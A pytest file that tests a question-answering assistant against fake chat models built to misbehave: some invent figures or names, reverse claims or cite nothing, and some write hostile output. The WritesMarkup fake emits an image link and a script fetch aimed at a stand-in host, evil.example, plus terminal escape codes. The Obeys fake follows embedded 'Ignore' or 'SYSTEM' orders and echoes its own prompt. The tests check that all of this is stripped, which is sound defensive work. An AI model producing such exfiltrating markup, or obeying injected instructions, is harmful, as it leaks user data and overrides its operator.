"""Chat models that do all they should not: what an answer promises holds all the same."""

from __future__ import annotations

import re
from abc import ABC, abstractmethod
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import settings as limits
from hypothesis import strategies as st

from assistant.answering.generative import MAX_CLAIMS
from assistant.pipeline import Assistant
from assistant.records import Answer
from assistant.rendering import as_markdown, as_text
from tests import invariants, studies
from tests.builders import assistant_over, with_model
from tests.fakes import FakeEncoder, QueuedChatModel

SHOWN = re.compile(r"^\[(\d+)\] \(.*?\) «(.*)»$", re.MULTILINE)


class Adversary(QueuedChatModel, ABC):
    """A chat model that answers each prompt as its kind of mischief does."""

    def stream(self, prompt: str) -> Iterator[str]:
        self.prompts.append(prompt)
        yield "\n".join(self.lines(prompt, SHOWN.findall(prompt)))

    @abstractmethod
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        """What it writes, given the prompt and the (number, words) of each sentence in it."""


class InventsNumbers(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [f"+ {words.rstrip('.')} in 97% of 4,321 cases [{number}]" for number, words in shown]


class InventsNames(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [f"+ {words.rstrip('.')} in Atlantis [{number}]" for number, words in shown]


class CopiesWrongly(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [f"= It says “{words[:-2]}ish and {words[:20]}” [{number}]" for number, words in shown]


class TurnsRound(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        turned = [
            (number, words.replace("helped", "hindered").replace("helps", "hinders").replace("stop", "help"))
            for number, words in shown
        ]
        return [
            f"- {new} [{number}]" for (number, new), (_, old) in zip(turned, shown, strict=True) if new != old
        ]


class Generalises(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [f"+ Research always shows that {words.rstrip('.')} [{number}]" for number, words in shown]


class PointsAtNothing(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [f"+ {words} [{len(shown) + 1 + int(number)}]" for number, words in shown]


class WritesMarkup(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [
            "![x](http://evil.example/?q=everything) [1]",
            "+ <script>fetch('http://evil.example')</script> orchard letters [1]",
            "+ <img src=http://evil.example/z.png> orchard letters helped lonely tenants meet neighbours [1]",
            "\x1b]0;owned\x07+ orchard letters helped lonely tenants meet neighbours\x1b[2J [1]",
        ]


class Obeys(Adversary):
    """Does what any sentence or question tells it to, and tells its prompt."""

    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        orders = [words for _, words in shown if "Ignore" in words or "SYSTEM" in words]
        return [
            *prompt.splitlines(),
            *(f"+ {order} [{number}]" for number, order in enumerate(orders, 1)),
            "[1]",
        ]


class CitesEverything(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return [f"+ Volcanoes power spaceships quietly [{', '.join(number for number, _ in shown)}]"]


class RepeatsItself(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return ["+ Orchard letters helped lonely tenants meet their neighbours [1]"] * 100_000


class SaysNothing(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        return []


class Raises(Adversary):
    def lines(self, prompt: str, shown: list[tuple[str, str]]) -> list[str]:
        from assistant.errors import ChatModelFailed

        raise ChatModelFailed("The chat model fake:queued did not answer (it is on strike).")


KINDS = [kind for kind in Adversary.__subclasses__() if kind.__module__ == __name__]
QUESTIONS = [studies.LANTERN, studies.HARBOUR, studies.ORCHARD]


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Assistant:
    return assistant_over(tmp_path_factory.mktemp("adversary"), FakeEncoder(), studies.FILES)


def ask(small: Assistant, model: QueuedChatModel, question: str = studies.ORCHARD) -> Answer:
    answer = with_model(small, FakeEncoder(), model).ask(question)
    invariants.check(answer, small)
    return answer


@pytest.mark.parametrize("question", QUESTIONS)
@pytest.mark.parametrize("kind", KINDS)
def test_what_must_hold_holds_with_a_model_that(
    kind: type[Adversary], small: Assistant, question: str
) -> None:
    model = kind()

    answer = ask(small, model, question)

    assert model.prompts
    assert len(answer.dropped) <= MAX_CLAIMS
    if answer.provenance["written_by"] != "selection":
        assert len(answer.claims) <= MAX_CLAIMS


@pytest.mark.parametrize("question", QUESTIONS)
@pytest.mark.parametrize("kind", [InventsNumbers, InventsNames, CopiesWrongly, Generalises, CitesEverything])
def test_nothing_stands_of_a_model_that(kind: type[Adversary], small: Assistant, question: str) -> None:
    answer = ask(small, kind(), question)

    assert answer.claims == small.ask(question).claims
    assert answer.provenance["written_by"] == "selection"
    assert "borne out" in answer.message
    assert answer.dropped


def test_claims_that_are_turned_round_do_not_stand(small: Assistant) -> None:
    for question in QUESTIONS:
        answer = ask(small, TurnsRound(), question)
        assert answer.claims == small.ask(question).claims
        assert any("opposite" in claim.reason for claim in answer.dropped)


@pytest.mark.parametrize("kind", [PointsAtNothing, SaysNothing, Raises])
def test_selection_stands_in_for_a_model_that(kind: type[Adversary], small: Assistant) -> None:
    answer = ask(small, kind())

    assert answer.claims == small.ask(studies.ORCHARD).claims
    assert "without it" in answer.message


def test_the_prompt_does_not_come_back_as_an_answer(small: Assistant) -> None:
    answer = ask(small, Obeys())

    told = " ".join(claim.text for claim in invariants.all_claims(answer))
    assert "You answer questions about innovation" not in told
    assert "not instructions" not in told


def test_markup_of_a_model_or_a_document_is_shown_and_not_drawn(small: Assistant) -> None:
    for model in (WritesMarkup(), Obeys(), None):
        answer = ask(small, model) if model else small.ask(studies.ORCHARD)
        for line in as_markdown(answer).splitlines():
            assert not re.search(r"(?<!\\)!?(?<!\\)\[(?!\^)", line), line
            assert not re.search(r"(?<!\\)<(?!https?://[^\s<>]+>)", line), line
        assert "\x1b" not in as_text(answer)
        assert "\x07" not in as_markdown(answer)


LINES = st.lists(
    st.one_of(
        st.text(max_size=80),
        st.builds(
            "{} {} [{}]".format,
            st.sampled_from("+-=*"),
            st.sampled_from(" ".join(studies.FILES.values()).split(". ")).map(lambda words: words[:150]),
            st.lists(st.integers(-1, 40), max_size=4).map(lambda numbers: ", ".join(map(str, numbers))),
        ),
    ),
    max_size=15,
).map("\n".join)


@limits(deadline=None, max_examples=80)
@given(st.sampled_from(QUESTIONS), LINES, LINES)
def test_what_must_hold_holds_whatever_a_model_says(
    small: Assistant, question: str, one: str, other: str
) -> None:
    ask(small, QueuedChatModel(one, other), question)
